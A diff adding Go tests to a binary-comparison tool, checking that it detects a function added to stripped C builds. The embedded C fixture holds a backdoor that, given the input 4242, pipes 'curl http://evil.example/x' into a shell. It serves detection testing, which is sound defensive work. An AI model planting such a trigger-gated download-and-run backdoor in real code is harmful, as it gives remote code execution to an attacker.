@@ -1,10 +1,13 @@
 package executable
 
 import (
+	"bytes"
+	"debug/elf"
 	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -241,5 +244,78 @@ func TestArchitectures(t *testing.T) {
 				t.Errorf("%d suspicions:\n%s", len(ss), strings.Join(ss, "\n"))
 			}
 		})
+	}
+}
+
+// switchesC is a program with tables of jumps, of which one has a function more.
+const switchesC = `#include <stdio.h>
+#include <stdlib.h>
+static int hits, misses;
+#ifdef DOOR
+int __attribute__((noinline)) door(int a) { if (a == 4242) return system("curl http://evil.example/x | sh"); return 0; }
+#endif
+#define F(n) int __attribute__((noinline)) f##n(int a) { hits += a; switch (a) { case 0: puts("zero " #n); return n; case 1: return hits; case 2: puts("two " #n); return 2; case 3: abort(); case 4: return a * n; case 5: return misses--; case 6: return rand(); default: return f0##n(a); } }
+#define G(n) int __attribute__((noinline)) f0##n(int a) { misses += a; printf("%d is no number of " #n "\\n", a); return misses; }
+G(1) G(2) G(3) G(4) G(5) G(6) G(7) G(8) F(1) F(2) F(3) F(4)
+#ifdef DOOR
+#define MORE door(c) +
+#else
+#define MORE
+#endif
+F(5) F(6) F(7) F(8)
+int main(int c, char **v) { return MORE f1(c) + f2(c) + f3(c) + f4(c) + f5(c) + f6(c) + f7(c) + f8(c); }
+`
+
+// TestStripped compares programs of C without symbols: functions are told apart
+// by what unwinds the stack, tables of jumps follow from the code, and tables that
+// linkers compute follow from what they are computed from.
+func TestStripped(t *testing.T) {
+	for _, flags := range [][]string{{"-O2", "-s"}, {"-O2", "-s", "-no-pie"}, {"-O2", "-s", "-shared", "-fPIC"}} {
+		t.Run(strings.Join(flags, " "), func(t *testing.T) {
+			n := compareFiles(t, built(t, switchesC, flags...), built(t, switchesC, append(flags, "-DDOOR")...))
+			ss := codeSuspicions(child(t, n, ".text"))
+			name := "func@0x"
+			if slices.Contains(flags, "-shared") {
+				name = "door" // it is exported
+			}
+			if len(ss) != 2 || !strings.Contains(ss[0], "side B has a function that A has not: "+name) || !strings.Contains(ss[1], "only B calls "+strings.TrimPrefix(name, "func@")) && !strings.Contains(ss[1], "→ call 0x") {
+				t.Errorf("the suspicions are\n%s", strings.Join(ss, "\n"))
+			}
+			for _, name := range []string{".gnu.hash", ".eh_frame_hdr"} {
+				for _, c := range n.Children {
+					if c.Name == name && c.Residue != diff.ResidueNone {
+						t.Errorf("%s only follows, and its residue is %s", name, c.Residue)
+					}
+				}
+			}
+			accounted(t, child(t, n, ".text"))
+			var open int64
+			rodata := child(t, n, ".rodata")
+			for _, r := range rodata.UnexplainedB {
+				open += r.Len
+			}
+			if open > 128 {
+				t.Errorf("%d bytes of the constants are not explained", open)
+			}
+			accounted(t, rodata)
+		})
+	}
+}
+
+// TestTableThatDoesNotFollow: a table that is not what it is computed from stays
+// unexplained.
+func TestTableThatDoesNotFollow(t *testing.T) {
+	a := built(t, switchesC, "-O2", "-shared", "-fPIC")
+	for _, name := range []string{".gnu.hash", ".eh_frame_hdr"} {
+		f, err := elf.NewFile(bytes.NewReader(a))
+		if err != nil {
+			t.Fatal(err)
+		}
+		b := bytes.Clone(a)
+		s := f.Section(name)
+		b[s.Offset+s.Size-3] ^= 4
+		if c := child(t, compareFiles(t, a, b), name); c.Residue != diff.ResidueKnown {
+			t.Errorf("%s differs by itself, and its residue is %s", name, c.Residue)
+		}
 	}
 }
